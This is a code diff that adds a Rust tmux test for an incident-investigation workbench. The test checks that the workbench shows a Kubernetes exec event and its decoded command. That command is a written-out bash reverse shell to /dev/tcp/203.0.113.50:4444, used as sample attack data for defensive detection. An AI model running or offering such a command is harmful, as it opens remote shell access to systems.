@@ -626,3 +626,55 @@ fn workbench_lists_sigma_findings_beside_the_built_in_ones() {
     });
     t.keys(&["Q"]);
 }
+
+#[test]
+fn sessions_of_an_exec_event_and_the_coverage_view_in_tmux() {
+    // `S` on an exec event opens its identity's sessions with the event's command under the
+    // cursor, decoded; Enter opens the event, q comes back; the header marks the blind
+    // spots and `6` lists them. At 80×24.
+    if !common::tool("tmux", "-V") {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let args = format!("--case {}", shell(&dir.path().join("case.json")));
+    let t = start_workbench(
+        dir.path(),
+        "views",
+        common::sample_index(),
+        &args,
+        (80, 24),
+        "",
+    );
+    t.wait("the incidents and the blind-spot marker", |s| {
+        s.contains("INC-") && s.contains("⚠ blind spots: ")
+    });
+    t.keys(&["2", "f"]);
+    t.wait("the filter prompt", |s| s.contains("filter>"));
+    t.keys(&["res:pods/exec", "Enter"]);
+    t.wait("the exec events", |s| s.contains("events — 7 matching"));
+    // The reverse shell: the last exec event but one.
+    t.keys(&["G", "k"]);
+    t.wait("the reverse shell selected", |s| s.contains("row 6 of 7"));
+    t.keys(&["S"]);
+    let s = t.wait("the sessions with the decoded command", |s| {
+        s.contains("sessions of sa:shop/web") && s.contains("/dev/tcp/203.0.113.50/4444 0>&1")
+    });
+    assert!(s.contains("from 198.51.100.77"), "{s}");
+    assert!(
+        s.contains("bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
+        "{s}"
+    );
+    t.keys(&["Enter"]);
+    t.wait("the command's event", |s| {
+        s.contains("event a9c8559f-5b52-443f-9423-d40679cc3613")
+    });
+    t.keys(&["q"]);
+    t.wait("back in the sessions", |s| {
+        s.contains("sessions of sa:shop/web") && s.contains("/dev/tcp/203.0.113.50/4444 0>&1")
+    });
+    t.keys(&["6"]);
+    t.wait("the coverage view", |s| {
+        s.contains("coverage — blind spots: ") && s.contains("RequestReceived")
+    });
+    t.keys(&["Q"]);
+}
